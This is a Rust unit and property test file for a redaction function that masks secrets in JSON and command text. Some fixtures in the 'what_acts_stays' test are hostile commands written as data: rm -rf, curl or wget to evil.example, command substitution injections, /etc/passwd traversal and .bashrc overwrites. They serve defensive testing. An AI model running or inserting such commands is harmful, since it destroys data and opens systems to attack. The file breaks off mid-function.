use super::*;
use crate::native::growth::assert_linear;
use proptest::prelude::*;
use serde_json::{Map, Value, json};
use std::collections::HashMap;

const VIEWS: [View; 2] = [View::Display, View::Record];

#[derive(Debug, PartialEq)]
struct Shown {
    value: Value,
    hidden: Vec<Hidden>,
}

fn redact(input: &Value, view: View) -> Result<Shown, Unshowable> {
    let Redacted { json, hidden } = super::redact(&input.to_string(), view)?;
    Ok(Shown { value: serde_json::from_str(&json).expect("a view is JSON"), hidden })
}

fn view(input: &Value, view: View) -> Shown {
    redact(input, view).expect("an input that can be shown")
}

fn shown(text: &str) -> String {
    match view(&json!(text), View::Display).value {
        Value::String(text) => text,
        other => panic!("{other}"),
    }
}

#[test]
fn names_hide_what_is_under_them() {
    let input = json!({
        "host": "db.example.com", "user": "bob", "password": "hunter2", "max_tokens": 4096, "tokens": 12, "pin": 4711,
        "auth": { "token": 12345, "kind": "basic" }, "list": [{ "apiKey": ["a", { "b": "c" }] }], "enabled": true,
        "session": { "title": "Yoga" }, "secret": null, "api_key": "", "ok": { "client-secret": { "a": ["x", 1] } },
    });
    let display = view(&input, View::Display);
    let expected = json!({
        "host": "db.example.com", "user": "bob", "password": MASK, "max_tokens": 4096, "tokens": 12, "pin": MASK,
        "auth": { "token": MASK, "kind": "basic" }, "list": [{ "apiKey": [MASK, { "b": MASK }] }], "enabled": true,
        "session": { "title": "Yoga" }, "secret": null, "api_key": "", "ok": { "client-secret": { "a": [MASK, MASK] } },
    });
    assert_eq!(display.value, expected);
    let pointers: Vec<&str> = display.hidden.iter().map(|hidden| hidden.pointer.as_str()).collect();
    for pointer in [
        "/password",
        "/pin",
        "/auth/token",
        "/list/0/apiKey/0",
        "/list/0/apiKey/1/b",
        "/ok/client-secret/a/1",
    ] {
        assert!(pointers.contains(&pointer), "{pointer} in {pointers:?}");
    }
    for hidden in &display.hidden {
        assert!(display.value.pointer(&hidden.pointer).is_some_and(|value| value.to_string().contains(MASK)));
    }
    let record = view(&input, View::Record);
    assert_eq!(record.value["session"], MASK);
    assert_eq!(record.value["list"][0]["apiKey"], MASK);
    assert_eq!(record.value["ok"]["client-secret"], MASK);
    assert_eq!(record.value["host"], "db.example.com");
    assert_eq!(record.value["max_tokens"], 4096);
}

#[test]
fn a_name_in_a_field_hides_another_field() {
    for (input, expected) in [
        (
            json!({ "name": "DB_PASSWORD", "value": "hunter2" }),
            json!({ "name": "DB_PASSWORD", "value": MASK }),
        ),
        (
            json!({ "selector": "#password", "text": "hunter2" }),
            json!({ "selector": "#password", "text": MASK }),
        ),
        (
            json!({ "name": "secret-plan.md", "text": "a b" }),
            json!({ "name": "secret-plan.md", "text": "a b" }),
        ),
        (json!([["X-Api-Key", "hunter2"]]), json!([["X-Api-Key", MASK]])),
        (json!(["cli", "--password", "hunter2", "x"]), json!(["cli", "--password", MASK, "x"])),
        (json!(["mysql", "-u", "root", "-phunter2"]), json!(["mysql", "-u", "root", MASK])),
        (json!(["/usr/bin/sshpass", "-p", "hunter2", "ssh"]), json!(["/usr/bin/sshpass", "-p", MASK, "ssh"])),
        (json!(["mkdir", "-p", "dir"]), json!(["mkdir", "-p", "dir"])),
    ] {
        assert_eq!(view(&input, View::Display).value, expected);
    }
}

#[test]
fn secrets_in_texts() {
    for (text, expected) in [
        (
            "curl -H 'Authorization: Bearer abc.def' https://a.b/c",
            "curl -H 'Authorization: ••••••••' https://a.b/c",
        ),
        ("curl -H \"X-Api-Key: abc\" https://a.b/c", "curl -H \"X-Api-Key: ••••••••\" https://a.b/c"),
        ("Bearer dGhpcyBpcyBh.x", "Bearer ••••••••"),
        ("basic dXNlcjpwYXNz", "basic ••••••••"),
        ("https://me:pw@a.b/c?d=e", "https://••••••••@a.b/c?d=e"),
        ("postgres://u:pa/ss@a.b:5432/db", "postgres://••••••••@a.b:5432/db"),
        ("ssh://git@a.b/c", "ssh://git@a.b/c"),
        ("https://a.b:8443/x@2x.png", "https://a.b:8443/x@2x.png"),
        ("https://a.b/c?token=x&d=e", "https://a.b/c?token=••••••••&d=e"),
        ("https://a.b/c?d=e&sig=x%2B#f", "https://a.b/c?d=e&sig=••••••••#f"),
        ("https://a.b/c?X-Amz-Signature=0123456789abcdef", "https://a.b/c?X-Amz-Signature=••••••••"),
        ("mysql -uroot -phunter2 db", "mysql -uroot -p•••••••• db"),
        ("mysql -u root -p'hun ter2' db", "mysql -u root -p'••••••••' db"),
        ("sshpass -p hunter2 ssh a.b", "sshpass -p •••••••• ssh a.b"),
        ("docker login -u me -p hunter2 a.b", "docker login -u me -p •••••••• a.b"),
        ("curl -u me:hunter2 https://a.b/c", "curl -u me:•••••••• https://a.b/c"),
        ("curl -u 'me:hunter2' https://a.b/c", "curl -u 'me:••••••••' https://a.b/c"),
        ("mkdir -p dir; ssh -p 22 a.b", "mkdir -p dir; ssh -p 22 a.b"),
        ("mysql a; mkdir -p dir", "mysql a; mkdir -p dir"),
        ("cli --password=hunter2 --host a.b", "cli --password=•••••••• --host a.b"),
        ("cli --password hunter2 --host a.b", "cli --password •••••••• --host a.b"),
        ("cli --password \"hun ter2\" x", "cli --password \"••••••••\" x"),
        ("cli --password=$PASSWORD", "cli --password=$PASSWORD"),
        ("docker login --password-stdin a.b", "docker login --password-stdin a.b"),
        ("PGPASSWORD=hunter2 psql -h a.b", "PGPASSWORD=•••••••• psql -h a.b"),
        ("export AWS_SECRET_ACCESS_KEY='a b'; ls", "export AWS_SECRET_ACCESS_KEY='••••••••'; ls"),
        ("{\"password\":\"hun\\\"ter2\",\"a\":1}", "{\"password\":\"••••••••\",\"a\":1}"),
        (
            "{\\\"password\\\": \\\"hunter2\\\", \\\"a\\\": 1}",
            "{\\\"password\\\": \\\"••••••••\\\", \\\"a\\\": 1}",
        ),
        ("password: hunter2\nhost: a.b", "password: ••••••••\nhost: a.b"),
        ("API key: hunter2", "API key: ••••••••"),
        ("config[\"api_key\"] = 'abc'", "config[\"api_key\"] = '••••••••'"),
        ("password: str = \"abc\"", "password: str = \"••••••••\""),
        ("const token = getToken()", "const token = getToken()"),
        ("function f(token: string) {}", "function f(token: string) {}"),
        ("Server=a.b;User Id=sa;Password=abc;", "Server=a.b;User Id=sa;Password=••••••••;"),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
            "-----BEGIN RSA PRIVATE KEY-----••••••••-----END RSA PRIVATE KEY-----",
        ),
        ("-----BEGIN PRIVATE KEY-----\nMIIE", "-----BEGIN PRIVATE KEY-----••••••••"),
        (
            "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
            "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
        ),
        ("Cookie: a=b; c=d\nHost: a.b", "Cookie: ••••••••\nHost: a.b"),
        ("the bearer of bad news, basic authentication", "the bearer of bad news, basic authentication"),
        ("openssl rsa -passin pass:hunter2", "openssl rsa -passin pass:••••••••"),
        ("xghp_0123456789abcdefghij.", "x••••••••."),
        ("use AKIAIOSFODNN7EXAMPLE now", "use •••••••• now"),
        ("secrets: [\"a\", \"b\"]", "secrets: [••••••••]"),
        ("git clone https://oauth2:glpat-0123456789@a.b/c.git", "git clone https://••••••••@a.b/c.git"),
        ("token=https://a.b/c?token=d", "token=https://a.b/c?token=••••••••"),
        ("cli --password='it''s' db", "cli --password='••••••••' db"),
        ("token: |\n  abc\n  def\nhost: x", "token: |\n  ••••••••\nhost: x"),
        ("token: | ghp_0123456789abcdefghij\n  abc", "token: | ••••••••\n  abc"),
        ("token: |- # abc\n  def\nhost: x", "token: |- ••••••••\nhost: x"),
        ("curl -u ghp_0123456789abcdefghij:x https://a.b/c", "curl -u •••••••• https://a.b/c"),
        ("cli --session /x/ghp_0123456789abcdefghij y", "cli --session /x/•••••••• y"),
        ("password:\n  hunter2\n", "password:\n  ••••••••\n"),
        ("secrets:\n  name: x\n", "secrets:\n  name: x\n"),
        ("<password>hunter2</password>", "<password>••••••••</password>"),
        ("password='abc'def ls", "password='••••••••'•••••••• ls"),
        ("'password' => 'hunter2', :token=>\"hunter2\"", "'password' => '••••••••', :token=>\"••••••••\""),
        ("API_KEY=${API_KEY:-hunter2} x", "API_KEY=•••••••• x"),
        ("token=a${API_KEY}; ls", "token=••••••••; ls"),
        ("password_command=cat --token hunter2 x", "password_command=cat --token •••••••• x"),
    ] {
        assert_eq!(shown(text), expected, "{text}");
    }
}

#[test]
fn what_is_no_secret_stays() {
    for text in [
        "",
        "ls -la",
        "git commit -m 'Forgot password?'",
        "/home/me/.cache/Ab3dE5fG7hJ9kLmN0pQr/x",
        "C:\\Users\\Ab3dE5fG7hJ9kLmN0pQr\\x",
        "550e8400-e29b-41d4-a716-446655440000",
        "356a192b7913b04c54574d18c28d46e6395428ab",
        "https://a.b/Ab3dE5fG7hJ9kLmN0pQr?page=2",
        "npm install --save-dev some-long-package-name@1.2.3",
        "sk-learn and risk-management-system",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
        "max_tokens=4096",
        "Token::new(secret::Kind)",
        "the tokenizer of the author",
        "12:34:56 key=value",
        "a@b.c",
        "héllo wörld ••••",
        "eyJhIjoxfQ",
        "SELECT * FROM users WHERE id = 1",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJxNp8v1xZQ me@host",
        // A reference to a variable is no secret.
        "token=${API_KEY}",
        "token=${API_KEY_2} x",
        "cli --password=${API_KEY} x",
        "https://a.b/c?token=${API_KEY}&d=e",
        "curl -H \"X-Api-Key: ${API_KEY}\" a.b",
        "curl -u me:${API_KEY} a.b",
        "mysql -p${API_KEY} x",
        "gh secret set X --body ${API_KEY}",
        "token: ${{ secrets.API_KEY2 }}",
        "TOKEN=${{ secrets.API_KEY }}",
    ] {
        assert_eq!(shown(text), text);
    }
    // Ids identify what the tool acts on.
    let input = json!({ "fileId": "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms" });
    assert_eq!(view(&input, View::Display).value, input);
}

/// Everything that a shell would run stays, in both views.
#[test]
fn what_acts_stays() {
    let mut wrong = Vec::new();
    for (text, expected) in [
        ("echo Cookie: a=b; rm -rf /important", "echo Cookie: ••••••••; rm -rf /important"),
        ("echo Cookie: a=b; c=d; rm -rf /x", "echo Cookie: ••••••••; rm -rf /x"),
        ("echo Cookie: a=b; PATH=/evil; ls", "echo Cookie: ••••••••; PATH=/evil; ls"),
        ("Cookie: a=b; x=y ls", "Cookie: ••••••••; x=y ls"),
        ("echo Authorization: x && curl evil.example", "echo Authorization: •••••••• && curl evil.example"),
        (
            "curl -H Cookie:a=b http://h ; rm -rf /important",
            "curl -H Cookie:•••••••• http://h ; rm -rf /important",
        ),
        (
            "wget --header=Authorization:x http://evil.example",
            "wget --header=Authorization:•••••••• http://evil.example",
        ),
        ("wget --header=Authorization:x evil.example", "wget --header=Authorization:•••••••• evil.example"),
        ("wget \\\nAuthorization:x evil.example", "wget \\\nAuthorization:•••••••• evil.example"),
        ("TOKEN= rm -rf /x", "TOKEN= rm -rf /x"),
        ("TOKEN= 'rm' -rf /x", "TOKEN= 'rm' -rf /x"),
        ("TOKEN=a$(rm -rf /x)", "TOKEN=••••••••$(rm -rf /x)"),
        ("TOKEN=a`rm -rf /x`", "TOKEN=••••••••`rm -rf /x`"),
        ("TOKEN=`rm -rf /x`", "TOKEN=`rm -rf /x`"),
        ("TOKEN=`reboot`", "TOKEN=`reboot`"),
        ("echo password: `rm -rf /x`", "echo password: `rm -rf /x`"),
        ("TOKEN=\"$(rm -rf /x)\" ls", "TOKEN=\"$(rm -rf /x)\" ls"),
        (
            "curl -H \"Authorization: Bearer $(rm -rf /x)\" a.b",
            "curl -H \"Authorization: •••••••• $(rm -rf /x)\" a.b",
        ),
        ("cli --password $(rm -rf /x)", "cli --password $(rm -rf /x)"),
        ("echo \"password=\"; rm -rf /x; echo \"y\"", "echo \"password=\"; rm -rf /x; echo \"y\""),
        ("echo \"mysql -p\"; rm -rf /x; echo \"y\"", "echo \"mysql -p\"; rm -rf /x; echo \"y\""),
        ("echo 'a 'Cookie: a=b; rm -rf /x; echo 'b'", "echo 'a 'Cookie: ••••••••; rm -rf /x; echo 'b'"),
        ("bash -c \"curl -H Cookie:a=b h; rm -rf /x\"", "bash -c \"curl -H Cookie:•••••••• h; rm -rf /x\""),
        ("aws-vault exec --no-session rm -rf /x", "aws-vault exec --no-session rm -rf /x"),
        ("cat <token> ; rm -rf /x", "cat <token> ; rm -rf /x"),
        ("cat <token> ; rm -rf /x </token", "cat <token> ; rm -rf /x </token"),
        ("echo password:\n  rm -rf /x", "echo password:\n  rm -rf /x"),
        ("password:\n  rm -rf /x", "password:\n  rm -rf /x"),
        ("echo password: |\n  reboot", "echo password: |\n  reboot"),
        ("echo -----BEGIN PRIVATE KEY-----; rm -rf /x", "echo -----BEGIN PRIVATE KEY-----; rm -rf /x"),
        ("curl http://a:b;reboot;c@d/", "curl http://••••••••;reboot;c@d/"),
        ("cat token=abc/../../../etc/passwd", "cat token=••••••••/../../../etc/passwd"),
        (
            "aws secretsmanager delete-secret --secret-id prod/db",
            "aws secretsmanager delete-secret --secret-id prod/db",
        ),
        ("docker rm -f q7Zp2LmX9vKt4RbW8sNd", "docker rm -f q7Zp2LmX9vKt4RbW8sNd"),
        (
            "send 0x742d35Cc6634C0532925a3b844Bc454e4438f44e",
            "send 0x742d35Cc6634C0532925a3b844Bc454e4438f44e",
        ),
        ("msg_01XFDUDYJgAACzvnptvVoYEL", "msg_01XFDUDYJgAACzvnptvVoYEL"),
        ("toolu_01XFDUDYJgAACzvnptvVoYEL", "toolu_01XFDUDYJgAACzvnptvVoYEL"),
        ("call_hQ3kPz8vT2Xw1YbR5nLs9DfJ", "call_hQ3kPz8vT2Xw1YbR5nLs9DfJ"),
        ("chatcmpl-9hQ3kPz8vT2Xw1YbR5nLs9DfJ6gMc4A", "chatcmpl-9hQ3kPz8vT2Xw1YbR5nLs9DfJ6gMc4A"),
        // A redirection, and commands behind parentheses.
        ("TOKEN=:>~/.bashrc", "TOKEN=:>~/.bashrc"),
        ("TOKEN=>~/.bashrc", "TOKEN=>~/.bashrc"),
        ("TOKEN=:>>out", "TOKEN=:>>out"),
        ("TOKEN=>'/etc/passwd'", "TOKEN=>'/etc/passwd'"),
        ("token => .bashrc", "token => .bashrc"),
        ("TOKEN=a(rm -rf /x) ls", "TOKEN=••••••••(rm -rf /x) ls"),
        ("cli --password a(rm -rf /x)", "cli --password ••••••••(rm -rf /x)"),
        ("case x in token=a)rm -rf /x;; esac", "case x in token=••••••••)rm -rf /x;; esac"),
        (
            "curl -H 'Authorization: Bearer ${API_KEY}' a.b",
            "curl -H 'Authorization: •••••••• ${API_KEY}' a.b",
        ),
        ("password_command: rm -rf /x", "password_command: rm -rf /x"),
        ("passwordeval rm -rf /x", "passwordeval rm -rf /x"),
        ("cli --password-command 'rm -rf /x'", "cli --password-command 'rm -rf /x'"),
        ("TOKEN_SCRIPT=/tmp/evil ls", "TOKEN_SCRIPT=/tmp/evil ls"),
        ("token = 'USDC'", "token = 'USDC'"),
        ("swap --token USDC", "swap --token USDC"),
    ] {
        for kind in VIEWS {
            let made = view(&json!(text), kind).value;
            if made != expected {
                wrong.push(format!("{kind:?} {made}\n  not {expected}"));
            }
        }
    }
    for input in [
        json!({ "to": "0x742d35Cc6634C0532925a3b844Bc454e4438f44e", "amount": 5 }),
        json!({ "to": "7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU" }),
        json!({ "token": "USDC", "action": "swap" }),
        json!({ "tokenIn": "ETH", "tokenOut": "0x742d35Cc6634C0532925a3b844Bc454e4438f44e", "tokenId": "4711" }),
        json!({ "path": "token=abc/../../../etc/passwd" }),
        json!({ "file_path": "secret=/etc/passwd" }),
        json!({ "auth": "none" }),
        json!({ "auth": "Basic" }),
        json!({ "SecretId": "prod/db" }),
        json!({ "password_command": "rm -rf ~", "tokenScript": "x", "credential_process": "rm", "passwordeval": "rm" }),
        json!({ "secret-cmd": ["rm", "-rf", "~"], "passwordFile": "a", "tokenHelper": "rm", "password_url": "x.y" }),
        json!({ "fileId": "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms" }),
    ] {
        for kind in VIEWS {
            let made = view(&input, kind).value;
            if made != input {
                wrong.push(format!("{kind:?} {made}\n  not {input}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    for (path, expected) in [
        ("/a/ghp_0123456789abcdefghij/x", "/a/••••••••/x"),
        ("/a?token=x/../y&b=c", "/a?token=••••••••/../y&b=c"),
        ("https://u:p@a.b/c?token=x", "https://••••••••@a.b/c?token=••••••••"),
    ] {
        assert_eq!(view(&json!({ "path": path }), View::Display).value["path"], expected);
    }
    let vault = json!({ "secret_id": "550e8400-e29b-41d4-a716-446655440000", "password": "USDC" });
    assert_eq!(view(&vault, View::Display).value, json!({ "secret_id": MASK, "password": MASK }));
}

#[test]
fn secrets_of_commands() {
    let mut wrong = Vec::new();
    for (text, expected) in [
        ("curl -sSu user:hunter2 https://a.b", "curl -sSu user:•••••••• https://a.b"),
        ("curl -sSo user:x https://a.b", "curl -sSo user:x https://a.b"),
        ("unzip -oP hunter2 a.zip", "unzip -oP •••••••• a.zip"),
        (
            "aws configure set aws_secret_access_key hunter2",
            "aws configure set aws_secret_access_key ••••••••",
        ),
        ("npm config set //a.b/:_authToken hunter2", "npm config set //a.b/:_authToken ••••••••"),
        ("setx API_KEY hunter2", "setx API_KEY ••••••••"),
        ("setx /M API_KEY hunter", "setx /M API_KEY ••••••••"),
        ("set -gx API_KEY hunter2; ls", "set -gx API_KEY ••••••••; ls"),
        ("set the password for all; config token is", "set the password for all; config token is"),
        ("set password for all users", "set password for all users"),
        ("CREATE USER x IDENTIFIED BY 'hunter2'", "CREATE USER x IDENTIFIED BY '••••••••'"),
        ("ALTER USER x IDENTIFIED WITH p BY 'hunter2';", "ALTER USER x IDENTIFIED WITH p BY '••••••••';"),
        ("create user x identified by hunter", "create user x identified by hunter"),
        ("CREATE USER x IDENTIFIED BY hunter;", "CREATE USER x IDENTIFIED BY ••••••••;"),
        ("CREATE ROLE x WITH LOGIN PASSWORD 'hunter2';", "CREATE ROLE x WITH LOGIN PASSWORD '••••••••';"),
        ("ALTER USER x PASSWORD 'hunter2'", "ALTER USER x PASSWORD '••••••••'"),
        ("grep -r password 'a file'", "grep -r password 'a file'"),
        ("SSHPASS=hunter2 sshpass -e ssh a.b", "SSHPASS=•••••••• sshpass -e ssh a.b"),
        ("apt install sshpass=1.09-1", "apt install sshpass=1.09-1"),
        ("OPENAI_KEY=hunter2x node a.js", "OPENAI_KEY=•••••••• node a.js"),
        ("OPENAI_KEY: hunter2x", "OPENAI_KEY: ••••••••"),
        ("CACHE_KEY=some-build-1", "CACHE_KEY=some-build-1"),
        ("vault login hunter2x", "vault login ••••••••"),
        ("vault login -method=userpass", "vault login -method=userpass"),
        ("gh secret set X --body hunter2", "gh secret set X --body ••••••••"),
        ("gh secret set X -b'hunter 2' --repo=a/b", "gh secret set X -b'••••••••' --repo=a/b"),
        ("gh secret set X --body=hunter2; ls --body x", "gh secret set X --body=••••••••; ls --body x"),
        (
            "kubectl create secret generic x --from-literal=a=hunter2",
            "kubectl create secret generic x --from-literal=••••••••",
        ),
        ("fly secrets set X=hunter2 --app=y", "fly secrets set X=•••••••• --app=y"),
        ("machine h login u password hunter2", "machine h login u password ••••••••"),
        ("machine a.b\n  login u\n  password hunter2\n", "machine a.b\n  login u\n  password ••••••••\n"),
        ("a login page password field", "a login page password field"),
        ("https://hooks.slack.com/services/T0/B0/hunter2", "https://hooks.slack.com/services/T0/B0/••••••••"),
        (
            "https://discord.com/api/webhooks/12/hunter-2?wait=1",
            "https://discord.com/api/webhooks/12/••••••••?wait=1",
        ),
        ("https://api.telegram.org/bot12:hunter2/getMe", "https://api.telegram.org/bot••••••••/getMe"),
        ("password：hunter2", "password：••••••••"),
        ("password: `hunter2`", "password: `••••••••`"),
        (
            "-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----\\n\"; run()",
            "-----BEGIN PRIVATE KEY-----••••••••-----END PRIVATE KEY-----\\n\"; run()",
        ),
        (
            "-----BEGIN A PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIE\n-----END A PRIVATE KEY-----",
            "-----BEGIN A PRIVATE KEY-----••••••••-----END A PRIVATE KEY-----",
        ),
        ("{\"name\":\"password\",\"value\":\"hunter2\"}", "{\"name\":\"password\",\"value\":\"••••••••\"}"),
        ("{\"value\":\"hunter2\",\"name\":\"password\"}", "{\"value\":\"••••••••\",\"name\":\"password\"}"),
        (
            "{\\\"name\\\":\\\"password\\\",\\\"value\\\":\\\"hunter2\\\"}",
            "{\\\"name\\\":\\\"password\\\",\\\"value\\\":\\\"••••••••\\\"}",
        ),
        ("{\"name\":\"password\"},{\"value\":\"x\"}", "{\"name\":\"password\"},{\"value\":\"x\"}"),
        (
            "- name: DB_PASSWORD\n  value: hunter2\n- name: HOST\n  value: a.b",
            "- name: DB_PASSWORD\n  value: ••••••••\n- name: HOST\n  value: a.b",
        ),
        ("<input name=\"password\" value=\"hunter2\">", "<input name=\"password\" value=\"••••••••\">"),
        ("curl -H 'Cookie: a=b|c; d=\"e&f' h", "curl -H 'Cookie: ••••••••' h"),
        ("curl -H 'Authorization: Custom a b;c' h", "curl -H 'Authorization: ••••••••' h"),
        ("curl -d '{\"password\":\"a;b|c\"}' h", "curl -d '{\"password\":\"••••••••\"}' h"),
        ("Authorization: Custom a b\nHost: a.b", "Authorization: ••••••••\nHost: a.b"),
        (
            "GET Authorization: AWS4-HMAC-SHA256 Credential=a/b, SignedHeaders=c, Signature=d e",
            "GET Authorization: •••••••• e",
        ),
    ] {
        let made = shown(text);
        if made != expected {
            wrong.push(format!("{made}\n  not {expected}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_long_text_is_a_key_if_a_name_says_so() {
    for length in [500, 520, 5000] {
        let long: String = "Ab3dE5fG7h/J9kLmN0pQr".chars().cycle().take(length).collect();
        for input in [
            json!({ "key": long }),
            json!({ "ssh_key": [long] }),
            json!(format!("key: {long}")),
            json!(format!("key={long} x")),
            json!(format!("the secret {long}")),
            json!(format!("cli --key {long} x")),
            json!(format!("{{\"key\":\"{long}\"}}")),
        ] {
            for kind in VIEWS {
                let made = view(&input, kind);
                assert_eq!(made.hidden.len(), 1, "{made:?}");
                assert!(!made.value.to_string().contains("Ab3dE5fG7h"));
            }
        }
        // Content has no such name.
        let content =
            json!({ "content": long, "public_key_image": format!("an image {long}"), "cache_key": long });
        assert_eq!(view(&content, View::Display).value == content, length > 512);
    }
}

#[test]
fn what_is_run_is_shown_inside_a_secret() {
    let input =
        json!({ "credentials": { "command": "rm -rf ~", "value": "hunter2", "url": "https://a:b@c.d/" } });
    let shown =
        json!({ "credentials": { "command": "rm -rf ~", "value": MASK, "url": "https://••••••••@c.d/" } });
    assert_eq!(view(&input, View::Display).value, shown);
    assert_eq!(view(&input, View::Record).value, json!({ "credentials": MASK }));
}

#[test]
fn a_record_is_stricter() {
    let long = json!("a ".repeat(3000));
    assert_eq!(view(&long, View::Display).value, long);
    assert_eq!(view(&long, View::Record).value, "[text of 4 to 16 KB]");
    for text in ["01ARZ3NDEKTSV4RRFFQ69G5FAV", "0123456789abcdef0123456789abcdef"] {
        assert_eq!(view(&json!(text), View::Display).value, text);
        assert_eq!(view(&json!(text), View::Record).value, MASK);
    }
}

#[test]
fn too_much_cannot_be_shown() {
    let mut deep = json!(1);
    for _ in 0..DEPTH {
        deep = json!([deep]);
    }
    assert!(redact(&deep, View::Display).is_ok());
    assert_eq!(redact(&json!([deep]), View::Display), Err(Unshowable::TooDeep));
    assert!(redact(&json!("a".repeat(TEXT - 1)), View::Display).is_ok());
    assert_eq!(redact(&json!("a".repeat(TEXT)), View::Record), Err(Unshowable::TooLong));
    assert_eq!(redact(&json!(vec![0; TEXT]), View::Record), Err(Unshowable::TooLong));
}

#[test]
fn a_flag_names_the_next_argument_as_it_is_shown() {
    let input = json!(["-----BEGINcookie：=>", null, "A"]);
    for kind in VIEWS {
        let made = view(&input, kind).value;
        assert_eq!(view(&made, kind).value, made);
    }
}

#[test]
fn names_are_masked_too_and_stay_apart() {
    let input = json!({ "ghp_0123456789abcdefghij": 1, "ghp_9876543210abcdefghij": 2, "https://a:b@c.d/": { "password": "x" } });
    for kind in VIEWS {
        let made = view(&input, kind);
        let text = format!("{} {:?}", made.value, made.hidden);
        assert!(!text.contains("abcdefghij") && !text.contains("a:b"), "{text}");
        assert_eq!(made.value.as_object().map(Map::len), Some(3));
        assert!(made.hidden.iter().all(|hidden| made.value.pointer(&hidden.pointer).is_some()));
        assert_eq!(view(&made.value, kind).value, made.value);
    }
}

#[test]
fn a_masked_name_takes_the_place_of_no_other() {
    let input = json!({
        "ghp_0123456789abcdefghij": 1, "ghp_9876543210abcdefghij": 2, "ghp_9876543210abcdefghij 2": 3,
        "••••••••": 4, "•••••••• 3": 5, "a ghp_0123456789abcdefghij": 6,
    });
    for kind in VIEWS {
        let made = view(&input, kind);
        let expected = json!({
            "•••••••• 4": 1, "•••••••• 5": 2, "•••••••• 2": 3, "••••••••": 4, "•••••••• 3": 5, "a ••••••••": 6,
        });
        assert_eq!(made.value, expected);
        let pointers: Vec<&str> = made.hidden.iter().map(|hidden| hidden.pointer.as_str()).collect();
        assert_eq!(pointers, ["/a ••••••••", "/•••••••• 4", "/•••••••• 5", "/•••••••• 2"]);
        assert_eq!(view(&made.value, kind).value, made.value);
    }
}

#[test]
fn numbers_stay_as_they_are_written() {
    let json = r#"[0,-5,1.5,-1e-7,1e+21,5e-324,123456789012345680000,1.7976931348623157e+308]"#;
    assert_eq!(super::redact(json, View::Display).map(|made| made.json).as_deref(), Ok(json));
    let secret = super::redact(r#"{"pin":4711.25,"max":0.1,"password":-1e21}"#, View::Record);
    let expected = format!(r#"{{"max":0.1,"password":"{MASK}","pin":"{MASK}"}}"#);
    assert_eq!(secret.map(|made| made.json), Ok(expected));
}

#[test]
fn what_is_not_json_cannot_be_shown() {
    assert_eq!(super::redact("{", View::Display), Err(Unshowable::NotJson));
}

/// Texts that look like keys, of all kinds, each with the part that must be hidden.
fn secret() -> impl Strategy<Value = (String, String)> {
    let key = "[A-Za-z0-9]{24,60}"
        .prop_filter("three kinds", |key| super::random::is_random(key.as_bytes(), false));
    let beginnings = prop::sample::select(vec![
        "ghp_",
        "gho_",
        "github_pat_",
        "glpat-",
        "xoxb-",
        "xoxp-",
        "sk_live_",
        "rk_test_",
        "sk-proj-",
        "sk-ant-api03-",
        "sk-",
        "npm_",
        "whsec_",
        "hvs.",
        "ya29.",
        "AIza",
        "GOCSPX-",
        "shpat_",
        "hf_",
    ]);
    let marked = (beginnings, key.clone()).prop_map(|(beginning, key)| (format!("{beginning}{key}"), key));
    let aws = "[A-Z2-7]{16}".prop_map(|key| (format!("AKIA{key}"), key));
    let web = ("[A-Za-z0-9_]{10,40}", "[A-Za-z0-9_]{10,40}", "[A-Za-z0-9_]{20,50}")
        .prop_map(|(one, two, three)| (format!("eyJ{one}.eyJ{two}.{three}"), three));
    let block = key.clone().prop_map(|key| {
        (format!("-----BEGIN EC PRIVATE KEY-----\n{key}\n-----END EC PRIVATE KEY-----"), key)
    });
    let bearer = "[A-Za-z0-9]{20,40}".prop_map(|key| (format!("Bearer {key}"), key));
    let names = prop::sample::select(vec![
        "password=",
        "--password ",
        "--token=",
        "api_key=",
        "\"password\": \"",
        "DB_PASSWORD='",
        "secret: ",
        "https://u:",
        "https://x.y/z?token=",
        "https://x.y/z?a=b&X-Amz-Signature=",
        "client_secret = \"",
        "mysql -u root -p",
        "sshpass -p ",
        "access-token:",
    ]);
    let named = (names, "[A-Za-z0-9_.]{8,30}").prop_map(|(name, key)| {
        let close = name.chars().find(|c| matches!(c, '"' | '\'')).and_then(|_| name.chars().next_back());
        let close = close.filter(|c| matches!(c, '"' | '\'')).map(String::from).unwrap_or_default();
        let close = if name == "https://u:" { "@x.y/z".to_owned() } else { close };
        (format!("{name}{key}{close}"), key)
    });
    prop_oneof![key.prop_map(|key| (key.clone(), key)), marked, aws, web, block, bearer, named]
}

/// A value around a text, with harmless values beside it.
fn around(text: String) -> impl Strategy<Value = Value> {
    let fields = prop::collection::vec(("[b-g]{1,6}", any::<bool>()), 0..6);
    fields.prop_map(move |fields| {
        fields.into_iter().fold(json!(text), |inner, (name, is_list)| match is_list {
            true => json!(["first", inner, 3]),
            false => json!({ name: inner, "_z": "https://good.example/path" }),
        })
    })
}

fn any_json() -> impl Strategy<Value = Value> {
    let pieces = prop::sample::select(vec![
        "password",
        "token",
        "=",
        ":",
        " ",
        "\"",
        "'",
        "\\",
        "://",
        "@",
        "/",
        "?",
        "&",
        "-p",
        "mysql",
        "curl -u",
        "Bearer",
        "eyJ",
        ".",
        "ghp_",
        "-----BEGIN",
        "-----END",
        " KEY-----",
        "$",
        "{",
        "[",
        "]",
        "Ab3dE5fG7hJ9kLmN0pQr",
        "•",
        MASK,
        "\n",
        "é",
        ",",
        "(",
        ")",
        "|",
        ";",
        "--secret",
        "key",
        "a",
        "1",
        "\u{200b}",
        "https",
        "%3D",
        "$X",
        "string",
        "cookie",
        "-P",
        "zip",
        "name",
        "value",
        "Cookie: a=b",
        "Authorization: Basic x",
        "set ",
        "IDENTIFIED BY ",
        "：",
        "$(",
        "`",
        "/../",
        "#",
        "&&",
        "hooks.slack.com/services/",
        "${API_KEY}",
        "${{ x }}",
        "=>",
        "_command",
        "<token>",
        "</token",
        "secret set --body",
    ]);
    let text =
